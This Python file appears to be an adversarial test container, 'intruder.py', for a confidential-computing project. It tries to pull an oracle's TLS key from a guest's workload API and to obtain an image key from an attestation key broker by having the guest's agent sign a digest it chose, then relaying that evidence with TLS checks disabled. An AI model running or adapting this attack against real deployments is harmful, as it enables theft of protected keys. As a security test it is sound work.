# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: The Redoubt authors
"""A container that its guest's owner lets have evidence, and that wants more: the oracle's key of the workload API, and the image's key of the broker, by
walking the handshake itself. As nobody may read its output, it does so when somebody POSTs the guest's initdata to port 8080, and answers what it was told.

usage: intruder.py BROKER_URL"""
import base64
import hashlib
import http.client
import http.server
import json
import ssl
import sys
import urllib.parse

# Any point of the curve: to take part in the handshake nobody has to know its logarithm.
KEY = {"alg": "ECDH-ES+A256KW", "crv": "P-256", "kty": "EC", "x": "axfR8uEsQkf4vOblY6RA8ncDfYEt6zOg9KE5RdiYwpY", "y": "T-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU"}


def said(answer):
    return answer.status, answer.read()


def ask_guest(path):
    connection = http.client.HTTPConnection("127.0.0.1", 8006, timeout=60)
    connection.request("GET", path)
    return said(connection.getresponse())


class Broker:
    def __init__(self, url):
        self.url, self.cookie = urllib.parse.urlsplit(url), ""

    def ask(self, method, path, body=None):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # it wants the key, whoever gives it
        connection = http.client.HTTPSConnection(self.url.hostname, self.url.port, timeout=60, context=context)
        headers = {"Content-Type": "application/json"} | ({"Cookie": self.cookie} if self.cookie else {})
        connection.request(method, f"{self.url.path}/kbs/v0/{path}", json.dumps(body) if body else None, headers)
        answer = connection.getresponse()
        self.cookie = (answer.getheader("Set-Cookie") or self.cookie).split(";")[0]
        return said(answer)


def handshake(broker, initdata):
    status, challenge = broker.ask("POST", "auth", {"version": "0.4.0", "tee": "snp", "extra-params": {"supported-hash-algorithms": ["sha256", "sha384", "sha512"]}})
    if status != 200:
        return {"auth": [status, challenge.decode()]}
    nonce = json.loads(challenge)["nonce"]
    bound = json.dumps({"additional-evidence": "", "nonce": nonce, "tee-pubkey": KEY}, sort_keys=True, separators=(",", ":"))
    # What a guest's agent has signed. Were it signed as it is, the handshake would be the guest's.
    digest = base64.urlsafe_b64encode(hashlib.sha384(bound.encode()).digest()).decode()
    status, evidence = ask_guest(f"/aa/evidence?encoding=base64&runtime_data={digest}")
    if status != 200:
        return {"evidence": [status, evidence.decode(errors="replace")]}
    told = {"evidence": [status, "its own"]}
    for step, answer in (("attest", broker.ask("POST", "attest", {
            "runtime-data": {"nonce": nonce, "tee-pubkey": KEY}, "init-data": {"format": "toml", "body": initdata},
            "tee-evidence": {"primary_evidence": json.loads(evidence), "additional_evidence": ""}})), ("resource", broker.ask("GET", "resource/oracle/key/image"))):
        told[step] = [answer[0], answer[1].decode(errors="replace")[:600]]
    return told


class Intruder(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        initdata = self.rfile.read(int(self.headers["Content-Length"])).decode()
        status, words = ask_guest("/cdh/resource/oracle/tls/key")
        told = {"workload API": [status, words.decode(errors="replace")]} | handshake(Broker(sys.argv[1]), initdata)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(json.dumps(told).encode())

    def log_message(self, *words):
        """Nobody reads it."""


if __name__ == "__main__":
    http.server.HTTPServer(("", 8080), Intruder).serve_forever()
